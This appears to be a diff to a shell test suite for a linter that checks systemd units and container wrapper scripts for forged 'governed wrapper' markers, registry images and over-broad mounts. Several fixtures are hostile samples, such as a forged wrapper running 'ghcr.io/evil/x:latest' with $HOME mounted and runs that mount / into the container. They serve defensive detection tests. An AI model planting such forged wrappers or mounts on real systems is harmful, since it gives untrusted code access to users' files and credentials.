@@ -429,12 +429,34 @@ is "$(problems)" "systemd.pull-at-start,systemd.raw-podman-run,systemd.registry-
 is "$(ev systemd.raw-podman-run wrapper)" /usr/local/bin/agent-run "evidence: the wrapper"
 is "$(ev systemd.raw-podman-run wrapper_line)" 4 "evidence: its line"
 like "$(msg systemd.raw-podman-run)" "^$S/p.service:2: " "the finding points at the unit's ExecStart"
+printf '#!/bin/sh\n# sourceos-agent: governed wrapper (generated)\nexec podman run --rm --pull=never --authfile /etc/sourceos/empty-auth.json localhost/agent\n' > "$T/usr/local/bin/agent-run"
+pod '/usr/local/bin/agent-run'
+is "$(problems)" "" "the governed wrapper is trusted once its run bears the claim out"
+# The wrapper as the generator writes it: DOCKER_CONFIG, --authfile FILE, a worktree mount.
+printf '#!/bin/sh\n# sourceos-agent: governed wrapper (generated; do not edit)\nset -eu\nexport DOCKER_CONFIG=/var/lib/sourceos/docker\nexec podman run --rm --replace --name agent --pull=never --authfile /var/lib/sourceos/empty-auth.json -e SOURCEOS_AGENT=agent -v /srv/repo:/work localhost/agent@sha256:0123\n' > "$T/usr/local/bin/agent-run"
+pod '/usr/local/bin/agent-run'
+is "$(problems)" "" "the generator's wrapper bears its claim out"
 printf '#!/bin/sh\n# sourceos-agent: governed wrapper (generated)\nexec podman run --rm --pull=never localhost/agent\n' > "$T/usr/local/bin/agent-run"
 pod '/usr/local/bin/agent-run'
-is "$(problems)" "" "the governed wrapper is trusted"
+is "$(problems)" "systemd.governed-claim-false,systemd.raw-podman-run" "the marker without --authfile: a false claim, and a raw run"
+is "$(ev systemd.governed-claim-false missing)" "--authfile (without it the host's registry credentials apply)" "evidence: what the run lacks"
 printf '#!/bin/sh\n# sourceos-agent: governed wrapper (generated)\nexec podman run --rm --pull=always ghcr.io/acme/agent\n' > "$T/usr/local/bin/agent-run"
 pod '/usr/local/bin/agent-run'
-is "$(problems)" "systemd.pull-at-start,systemd.registry-image" "a governed wrapper is no raw run, but its pull policy and image are judged (as launchd does)"
+is "$(problems)" "systemd.governed-claim-false,systemd.pull-at-start,systemd.raw-podman-run,systemd.registry-image" "the marker over --pull=always of a registry image: a false claim, judged as a raw run"
+is "$(sev systemd.governed-claim-false)" critical "a false claim is critical"
+is "$(msg systemd.governed-claim-false)" "$S/p.service:2: agent-run claims to be sourceos-agent's governed wrapper (it carries \`sourceos-agent: governed wrapper\`), but its \`podman run\` lacks --pull=never (it has --pull=always), --authfile (without it the host's registry credentials apply), a local image (it runs ghcr.io/acme/agent, from a registry (ghcr.io)): it is judged as a raw run (in /usr/local/bin/agent-run, which ExecStart=agent-run runs, line 3)" "FILE:LINE, what the run lacks, and where"
+is "$(ev systemd.governed-claim-false wrapper_line)" 3 "evidence: the run's line"
+# The review's forgery: the marker in a comment over a raw run.
+printf '#!/bin/sh\n# sourceos-agent: governed wrapper\nexec podman run -v $HOME:/h ghcr.io/evil/x:latest\n' > "$T/usr/local/bin/agent-run"
+pod '/usr/local/bin/agent-run'
+is "$(problems)" "systemd.governed-claim-false,systemd.home-mounted,systemd.raw-podman-run,systemd.registry-image" "a forged marker hides nothing"
+# A NUL byte before the marker: strstr stopped there and missed the claim.
+printf '#!/bin/sh\n#\000\n# sourceos-agent: governed wrapper\nexec podman run --pull=never --authfile /e.json localhost/agent\n' > "$T/usr/local/bin/agent-run"
+pod '/usr/local/bin/agent-run'
+is "$(problems)" "" "a NUL byte before the marker: still the governed wrapper (memmem, as launchd)"
+printf '#!/bin/sh\n#\000\n# sourceos-agent: governed wrapper\nexec podman run -v /:/host localhost/agent\n' > "$T/usr/local/bin/agent-run"
+pod '/usr/local/bin/agent-run'
+is "$(problems)" "systemd.governed-claim-false,systemd.home-mounted,systemd.raw-podman-run" "a NUL byte before the marker: the claim is judged all the same"
 printf '#!/bin/sh\n# podman run is mentioned only in a comment\nexec /usr/bin/agent\n' > "$T/usr/local/bin/agent-run"
 pod '/usr/local/bin/agent-run'
 is "$(problems)" "" "a script without podman run"
@@ -448,6 +470,9 @@ is "$(ev systemd.raw-podman-run mounts)" '$HOME:/data/home:ro, $HOME/src/repo:/w
 is "$(ev systemd.raw-podman-run replace) $(ev systemd.raw-podman-run rm)" "yes yes" "evidence: --replace and --rm"
 pod '/usr/bin/podman run --mount type=bind,source=%h/,target=/h -v /root:/r -v /home/alice/x:/x localhost/a'
 is "$(j "[f['evidence']['mount_source'] for f in find('$id')['findings'] if f['code']=='systemd.home-mounted']")" '["%h/", "/root"]' "%h/ and /root are homes, /home/alice/x is not"
+pod '/usr/bin/podman run -v /:/host -v /home:/home -v %h/..:/x -v /var/root:/r -v /var/home/:/v -v /home/alice/x/..:/a -v /home/alice/x/../x:/b localhost/a'
+is "$(j "[f['evidence']['mount_source'] for f in find('$id')['findings'] if f['code']=='systemd.home-mounted']")" '["/", "/home", "%h/..", "/var/root", "/var/home/", "/home/alice/x/.."]' "wider mounts too: /, /home, %h/.., /var/home/; /var/root; a home spelt with ..; not a worktree spelt with .."
+like "$(msg systemd.home-mounted)" "^$S/p.service:2: \`podman run\` mounts /, a directory holding the home\\(s\\), into the container \\(at /host\\): what runs there can read and change every file of every user whose home is in it" "a wider mount: a directory holding the home(s)"
 cp "$FIX/loopback-registry.service" "$T$S/p.service"; lint $S/p.service
 is "$(problems)" "systemd.raw-podman-run,systemd.registry-image" "localhost:5000/agent:1 is a registry image (as launchd judges it)"
 like "$(msg systemd.registry-image)" "comes from a registry on this machine \(localhost:5000\)" "says: a registry on this machine"
@@ -508,6 +533,26 @@ like "$(msg systemd.shell-launch)" 'launches through `sh -c`.*the shell runs `se
 scan
 is "$(j "sorted(set(f['code'] for f in find('systemd.scan')['findings'] if f['message'].startswith('$HU:') and f['severity']!='info'))")" '["systemd.home-mounted", "systemd.opaque-store-wrapper", "systemd.raw-podman-run", "systemd.registry-image", "systemd.shell-launch"]' "the scan of the user's units sees them too"
 id=systemd.lint
+# the governed wrapper behind sh -c is sourceos's own: no shell launch, no opaque wrapper
+hm_wrapper '#!/bin/sh
+# sourceos-agent: governed wrapper (generated; do not edit)
+exec /usr/bin/podman run --rm --pull=never --authfile /home/alice/.local/state/sourceos/empty-auth.json localhost/sourceos/nc@sha256:0123
+'
+lint $HU
+is "$(problems)" "" "sh -c execing the governed wrapper: generated"
+hm_wrapper '#!/bin/sh
+# sourceos-agent: governed wrapper (generated; do not edit)
+exec /usr/bin/podman run -v $HOME:/h ghcr.io/evil/x:latest
+'
+lint $HU
+is "$(problems)" "systemd.governed-claim-false,systemd.home-mounted,systemd.opaque-store-wrapper,systemd.raw-podman-run,systemd.registry-image,systemd.shell-launch" "sh -c execing a forged wrapper: the shell launch and the store wrapper are reported too"
+hm_wrapper '#!/bin/sh
+# sourceos-agent: governed wrapper (generated; do not edit)
+exec /usr/local/bin/agent
+'
+lint $HU
+is "$(problems)" "systemd.governed-claim-false,systemd.opaque-store-wrapper,systemd.shell-launch" "the marker on a script that runs no podman: a false claim"
+like "$(msg systemd.governed-claim-false)" "^$HU:4: ExecStart= runs $W, which claims to be sourceos-agent's governed wrapper .*but it lacks a \`podman run\` \\(the script runs none\\)" "says there is no run"
 # a garbage-collected store path
 rm -rf "$T/nix/store/$H-node-commander-wrapper"
 lint $HU
